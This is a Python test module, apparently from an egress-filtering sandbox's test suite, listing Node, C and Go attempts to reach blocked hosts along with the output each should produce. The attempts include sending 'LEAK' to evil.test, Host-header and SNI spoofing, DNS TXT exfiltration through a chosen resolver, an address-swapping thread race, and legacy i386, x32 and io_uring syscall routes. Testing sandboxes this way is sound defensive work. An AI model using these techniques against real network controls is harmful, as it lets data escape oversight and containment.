"""Attempts by other clients, and by programs in C and Go."""

from typing import Final

from tests.egress.attempt import ATTEMPTS, Attempt, node, shell
from tests.egress.servers import OTHER

# -- other clients ---------------------------------------------------------------------------------------------------
node(
    "node-literal",
    f"require('net').connect(80, '{OTHER}').on('error', e => console.log('failed', e.code))",
    "failed EACCES",
)
node(
    "node-name",
    "require('http').get('http://evil.test/LEAK').on('error', e => console.log('failed', e.code))",
    "failed ENOTFOUND",
)
node(
    "node-host-header",
    "require('http').get({host:'good.test', path:'/LEAK', headers:{host:'evil.test'}}, r => console.log('status', r.statusCode))",
    "status 421",
)
node(
    "node-servername",
    "require('tls').connect({host:'good.test', port:443, servername:'evil.test', rejectUnauthorized:false}).on('error', e => console.log('failed', e.code))",
    "failed ERR_SSL",
)
node(
    "node-dns-server",
    f"const d=require('dns'); const r=new d.Resolver(); r.setServers(['{OTHER}']); r.resolveTxt('secret.evil.test', e => console.log('failed', e.code))",
    "failed ENOTFOUND",
)
node(
    "node-udp",
    f"const s=require('dgram').createSocket('udp4'); s.on('error', e => console.log('failed', e.code)); s.send('LEAK', 7001, '{OTHER}', () => setTimeout(() => s.close(), 200))",
    "",
)
node(
    "node-lookup-all",
    "require('dns').lookup('good.test', {all:true}, (e, a) => console.log(JSON.stringify(a)))",
    "198.18.1",
)


# -- programs in C and Go ----------------------------------------------------------------------------------------------
def compiled(name: str, source: str, says: str) -> None:
    """An attempt in C, built inside."""
    script = f"cat > /tmp/{name}.c <<'END'\n{C_HEAD}{source}\nEND\ngcc -O1 -pthread -o /tmp/{name} /tmp/{name}.c && /tmp/{name}"
    ATTEMPTS.append(Attempt(name, ["sh", "-c", script], says, "gcc"))


C_HEAD: Final = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
static struct sockaddr_in at(const char *host, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    struct hostent *h = gethostbyname(host);
    if (h) memcpy(&a.sin_addr, h->h_addr, 4); else inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}
"""
compiled(
    "c-race-of-address",
    r"""
static struct sockaddr_in good, evil, shown;
static volatile int done;
static void *flip(void *x) {
    while (!done) { memcpy(&shown, &evil, sizeof shown); memcpy(&shown, &good, sizeof shown); }
    return x;
}
int main(void) {
    pthread_t t; int refused = 0, made = 0;
    good = at("other.test", 7000); evil = at("93.184.216.35", 7000);
    shown = good; pthread_create(&t, 0, flip, 0);
    for (int n = 0; n < 60; n++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (void *)&shown, sizeof shown)) refused++; else { made++; send(s, "fine", 4, MSG_NOSIGNAL); }
        close(s);
    }
    done = 1; pthread_join(t, 0);
    printf("refused %d made %d\n", refused, made);
}
""",
    r"refused \d+ made \d+",
)
compiled(
    "c-sendmmsg",
    r"""
int main(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to[2] = {at("other.test", 7001), at("93.184.216.35", 7001)};
    char *text[2] = {"fine", "LEAK"};
    struct iovec v[2] = {{text[0], 4}, {text[1], 4}};
    struct mmsghdr m[2] = {{{&to[0], 16, &v[0], 1}}, {{&to[1], 16, &v[1], 1}}};
    for (int n = 0; n < 5; n++) { int r = sendmmsg(s, m, 2, 0); printf("sent %d errno %d\n", r, errno); usleep(50000); }
}
""",
    "sent",
)
compiled(
    "c-i386-calls",
    r"""
int main(void) {
    unsigned *low = mmap((void *)0x10000, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (low == MAP_FAILED) { puts("no low memory"); return 0; }
    low[0] = AF_INET; low[1] = SOCK_STREAM; low[2] = 0;
    long r = 102;
    fflush(stdout);
    __asm__ volatile("int $0x80" : "+a"(r) : "b"(1L), "c"(low) : "memory");
    printf("socketcall %ld\n", r);
}
""",
    "",
)
compiled(
    "c-x32-calls",
    r"""
int main(void) {
    long r = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0);
    printf("x32 socket %ld %d\n", r, errno);
    if (r >= 0) { struct sockaddr_in a = at("93.184.216.35", 80); printf("connect %d\n", connect(r, (void *)&a, 16)); }
}
""",
    "",
)
compiled(
    "c-io-uring",
    r"""
int main(void) { char params[120] = {0}; printf("io_uring %ld %d\n", syscall(425, 8, params), errno); }
""",
    "io_uring -1",
)
compiled(
    "c-zero-copy",
    r"""
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in a = at("other.test", 7000);
    setsockopt(s, SOL_SOCKET, 60, &one, sizeof one);
    printf("connect %d\n", connect(s, (void *)&a, sizeof a));
    printf("sent %zd\n", send(s, "fine", 4, 0x4000000));
    char b[9]; printf("got %zd\n", recv(s, b, 9, 0));
}
""",
    "got 4",
)
GO: Final = r"""
package main
import ("fmt"; "net"; "net/http"; "context")
func main() {
    _, err := net.Dial("tcp", "93.184.216.35:80"); fmt.Println("literal", err)
    _, err = http.Get("http://evil.test/LEAK"); fmt.Println("name", err)
    r := net.Resolver{PreferGo: true, Dial: func(c context.Context, n, a string) (net.Conn, error) { return net.Dial("udp", "93.184.216.35:53") }}
    _, err = r.LookupTXT(context.Background(), "secret.evil.test"); fmt.Println("txt", err)
    q, _ := http.NewRequest("GET", "http://good.test/LEAK", nil); q.Host = "evil.test"
    a, err := http.DefaultClient.Do(q); fmt.Println("host", err, a != nil && a.StatusCode == 421)
    g, err := http.Get("http://good.test/ok"); fmt.Println("granted", err, g != nil && g.StatusCode == 200)
}
"""
shell(
    "go-clients",
    f"mkdir -p /tmp/go && cd /tmp/go && cat > m.go <<'END'\n{GO}\nEND\n"
    "HOME=/tmp GOTOOLCHAIN=local GOFLAGS=-mod=mod GO111MODULE=off timeout 55 go run m.go; echo over",
    "over",
    "go",
)
